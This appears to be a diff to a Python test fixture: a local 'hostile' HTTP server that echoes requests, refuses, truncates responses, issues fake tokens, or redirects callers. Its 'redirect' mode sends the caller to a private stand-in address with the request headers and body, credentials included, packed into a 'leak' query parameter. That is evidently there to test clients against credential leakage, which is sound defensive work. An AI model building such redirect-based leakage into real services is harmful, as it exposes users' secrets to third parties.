@@ -8,17 +8,27 @@ import threading
 from collections.abc import Iterator
 from contextlib import contextmanager
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
-from typing import Any
+from typing import Any, Literal, TypeAlias
 from urllib.parse import quote
+
+Mood: TypeAlias = Literal["echo", "refuse", "cut", "redirect"]
+"""Whether it answers, says no, breaks off in the middle, or sends the caller to a private address."""
 
 
 class Hostile:
-    """Where it is, whether it refuses, and how often it was asked."""
+    """Where it is, how it behaves, how often it was asked, and what its tokens contain."""
 
     def __init__(self) -> None:
         self.url = ""
-        self.refuses = False
+        self.mood: Mood = "echo"
         self.asked = 0
+        self.token = "token"
+        self.tokens = 0
+
+    def fresh_token(self) -> str:
+        """Another one each time."""
+        self.tokens += 1
+        return f"at{self.tokens}/{self.token}+x"
 
 
 def forms(text: str) -> dict[str, str]:
@@ -54,7 +64,22 @@ def hostile_service() -> Iterator[Hostile]:
             said = [self.path, *self.headers.values(), body.decode("utf-8", "replace")]
             said += [value.rpartition(" ")[2] for value in self.headers.values()]
             echo = {str(i): forms(each) for i, each in enumerate(said)}
-            if service.refuses:
+            if self.path.startswith("/token"):
+                self._token(echo)
+            elif service.mood == "redirect":
+                self.send_response(302)
+                leak = quote(" ".join(said), safe="")[:3000]
+                self.send_header("Location", f"http://10.255.255.1/?leak={leak}")
+                self.send_header("Content-Length", "0")
+                self.end_headers()
+            elif service.mood == "cut":
+                self.send_response(200)
+                self.send_header("Content-Type", "application/json")
+                self.send_header("Content-Length", "1000000")
+                self.end_headers()
+                self.wfile.write(json.dumps(echo).encode())
+                self.close_connection = True
+            elif service.mood == "refuse":
                 words = f"Incorrect API key provided: {json.dumps(echo)}"
                 self._send(
                     401, json.dumps({"error": {"message": words, "type": "auth", "code": "x"}}).encode()
@@ -64,10 +89,21 @@ def hostile_service() -> Iterator[Hostile]:
                     json.loads(body),
                     " ".join([self.headers.get("authorization", ""), *forms(said[-1]).values()]),
                 )
+            elif self.path.startswith("/v4/"):
+                rows = [["said"], *([each] for one in echo.values() for each in one.values())]
+                self._send(200, json.dumps({"values": rows}).encode())
             elif self.path.startswith("/file"):
                 self._send(200, b"\0file\0" + json.dumps(echo).encode(), "application/octet-stream")
             else:
                 self._send(200, json.dumps(echo).encode())
+
+        def _token(self, echo: dict[str, Any]) -> None:
+            if service.mood == "refuse":
+                said = {"error": "invalid_grant", "error_description": json.dumps(echo)}
+                self._send(400, json.dumps(said).encode())
+            else:
+                token = {"access_token": service.fresh_token(), "token_type": "bearer", "expires_in": 3600}
+                self._send(200, json.dumps(token | {"refresh_token": service.fresh_token()}).encode())
 
         def _stream(self, asked: dict[str, Any], text: str) -> None:
             tools = asked.get("tools")
